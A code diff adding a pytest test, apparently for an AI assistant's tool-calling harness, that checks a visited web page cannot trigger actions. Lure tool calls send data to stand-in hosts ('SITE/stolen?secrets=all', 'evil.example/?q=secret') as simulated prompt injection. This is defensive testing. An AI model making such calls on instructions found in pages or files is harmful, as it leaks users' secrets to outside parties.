@@ -12,6 +12,7 @@ from concurrent.futures import ThreadPoolExecutor
 from datetime import date, timedelta
 
 import pytest
+from browsed_site import Site
 from helpers import Answer, Server, chapter, patience, read, wait_for
 from model_server import ModelServer
 from test_chat import Chat, Element, messages_in, small, talked, tree
@@ -655,6 +656,21 @@ def test_b6_a_tool_that_sends_elsewhere_asks_once_something_from_outside_was_rea
     D.file("evil.txt", EVIL)
     c = D.do("Sum up @files/evil.txt", call("visit", place="evil.example/?q=secret"), "Nothing.")
     assert D.waiting(c)["facts"]["why"] == "It may send on what came from outside."
+
+
+@pytest.mark.parametrize("lure", [*LURES.values(), call("browse", url="SITE/stolen?secrets=all"), call("browser_act", url="SITE/stolen", deeds="click OK")], ids=[*LURES, "browse", "browser_act"])
+def test_b6_a_web_page_cannot_have_anything_done(D, lure):
+    with Site() as site:
+        D.post("/browser", {"act": "allow", "name": site.host})
+        D.tasks("Buy milk", "Call mum")
+        before, fired = D.records(), D.fired()
+        page = f"{site.url}/inject?{time.time_ns()}"  # one that no cache has
+        for text in (f"What does {page} say?", f"Read {page} and sum it up, please"):
+            D.model.queue.clear()
+            c = D.do(text, call("browse", url=page), lure.replace("SITE", site.url), "Of gardens.")
+            assert D.records() == before and D.fired() == fired and not site.count("/stolen"), (text, D.states(c))
+            assert D.states(c)[0] == ("browse", "done") and all(s in ("waiting", "failed") for _, s in D.states(c)[1:]), (text, D.states(c))
+        assert site.count("/inject") == 1
 
 
 def test_what_is_named_in_the_very_words_is_done_though_a_file_is_attached(D):
